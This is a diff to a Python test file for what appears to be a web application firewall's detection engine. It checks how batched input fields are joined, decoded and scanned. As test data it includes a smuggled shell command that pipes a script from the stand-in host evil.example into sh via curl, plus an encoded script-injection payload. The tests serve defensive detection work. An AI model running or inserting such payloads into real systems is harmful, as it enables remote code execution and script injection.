@@ -552,9 +552,6 @@ def test_a_group_scanned_joined_keeps_the_candidates_of_each_text(
 @pytest.mark.parametrize(
     ("texts", "why"),
     [
-        (["a%0a%01b", "c%0Ad"], "decoding yields both separators, a newline and a control character"),
-        (["x&#10;\x01y", "x&#x0a;y"], "an HTML reference yields a newline, and a text holds the other"),
-        (["a\x01%0ab", "c%0ad"], "a text holds the control separator already"),
         (["a\\", "b\\"], "an escape at a text's end would take the separator"),
         (["a%5c", "b%5c"], "percent-decoding leaves a backslash at a text's end"),
         (["one"], "a single text gains nothing from joining"),
@@ -581,6 +578,37 @@ def _joined_like_each_text(rules: RuleSet, texts: list[str], acting: frozenset[s
     for text, found in zip(texts, batched.candidates, strict=True):
         _assert_sound_candidates(rules, text, found, _alone(rules, text, acting))
     return batched
+
+
+@pytest.mark.parametrize(
+    ("texts", "unusable"),
+    [
+        (["a%0a%01b", "c%0Ad", "%02x"], "\n\x01\x02"),  # percent-decoding yields them
+        (["x&#10;\x01y", "x&#x0a;y"], "\n\x01"),  # a newline from a reference; a text holds \x01
+        (["\\\\1", "\\\\2", "\\\\3", "\\\\12", "\\\\41"], "\n\x01\x02\x03"),  # \\1 gives \1, then U+0001
+        # Expansions and brace lists left open at a text's end, joined by a control character.
+        (["%0a{a,", "'b}c%0a", "$IFS%x%0a", "'y}%0a", "${a%0a", "':-}b%0a"], "\n"),
+    ],
+)
+def test_texts_that_decode_to_control_characters_are_joined_by_another(
+    bundled_signatures: tuple[Signature, ...], texts: list[str], unusable: str
+) -> None:
+    """The group is joined by a control character that no text holds and no decoding yields, and
+    each text still gets what its own chains give."""
+    from firewall.engine.decoded import acting_decoders
+    from firewall.engine.transforms import apply_chain
+
+    rules = compile_signatures(bundled_signatures, paranoia=4)
+    acting = acting_decoders(texts[0])
+    assert all(acting_decoders(text) == acting for text in texts)
+    group = _joined_like_each_text(rules, texts, acting)
+    separator = group.decoded.joining.separator
+    assert separator not in unusable
+    for number, text in enumerate(texts):
+        for chain in rules.chain_members:
+            subject = group.subject(number, rules.reduced(chain, group.reduced_to))
+            assert subject == apply_chain(chain, text), (text, chain)
+            assert separator not in subject
 
 
 def test_decoders_woken_by_decoding_join_the_group(bundled_signatures: tuple[Signature, ...]) -> None:
@@ -630,11 +658,22 @@ def test_fields_of_a_group_searched_as_a_slice_give_what_they_give_one_by_one(
     assert {h.path for h in sliced.hits} == {f"items[{i}]" for i in attacks[:MAX_PATHS_PER_SIGNATURE]}
 
 
-def test_an_attack_among_thousands_of_decoded_fields_is_found(bundled_signatures: tuple[Signature, ...]) -> None:
-    """20,000 texts with an apostrophe are scanned joined; the one attack among them still fires."""
+@pytest.mark.parametrize(
+    ("form", "attack"),
+    [
+        ("it's {:05d}", "x';curl${IFS}http://evil.example/x|sh;'"),
+        # \\1 to \\39 decode to control characters and newlines: the group takes stand-in separators
+        ("\\\\{}x", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
+    ],
+)
+def test_an_attack_among_thousands_of_decoded_fields_is_found(
+    bundled_signatures: tuple[Signature, ...], form: str, attack: str
+) -> None:
+    """20,000 texts with an apostrophe or escapes are scanned joined; the one attack among them
+    still fires."""
     rules = compile_signatures(bundled_signatures, paranoia=1)
-    fields: list[tuple[str, str | bytes]] = [(f"items[{i}]", f"it's {i:05d}") for i in range(20_000)]
-    fields[12_345] = ("items[12345]", "x';curl${IFS}http://evil.example/x|sh;'")
+    fields: list[tuple[str, str | bytes]] = [(f"items[{i}]", form.format(i)) for i in range(20_000)]
+    fields[12_345] = ("items[12345]", attack)
     findings = inspect_fields(rules, fields)
     assert findings.error is None
     assert {hit.path for hit in findings.hits} == {"items[12345]"}
@@ -643,17 +682,18 @@ def test_an_attack_among_thousands_of_decoded_fields_is_found(bundled_signatures
 def test_one_text_that_cannot_be_joined_leaves_the_rest_of_its_group_joined(
     bundled_signatures: tuple[Signature, ...],
 ) -> None:
-    """A group is halved around a text whose decoding yields a newline: only a few texts end up
-    examined one by one, and every text keeps the candidates it needs."""
+    """A group is halved around a text that cannot be joined (decoded, it ends with a backslash,
+    which would take in any separator): only a few texts end up examined one by one, and every
+    text keeps the candidates it needs."""
     from firewall.engine.matcher import SMALLEST_SPLIT, _joined_parts
 
     rules = compile_signatures(bundled_signatures, paranoia=1)
     texts = [f"50% of {i:04d}" for i in range(1000)]
-    texts[617] = "line%0abreak%01 50%"  # a newline and a control character: no separator holds
+    texts[617] = "line%0abreak 50%5c"
     acting = frozenset({"url_decode"})
     parts = _joined_parts(rules, texts, acting)
     alone = [text for part, batched in parts if batched is None for text in part]
-    assert "line%0abreak%01 50%" in alone and len(alone) <= SMALLEST_SPLIT
+    assert "line%0abreak 50%5c" in alone and len(alone) <= SMALLEST_SPLIT
     assert sorted(text for part, _ in parts for text in part) == sorted(texts)
     for part, batched in parts:
         for text, candidates in zip(part, batched.candidates if batched else [None] * len(part), strict=True):
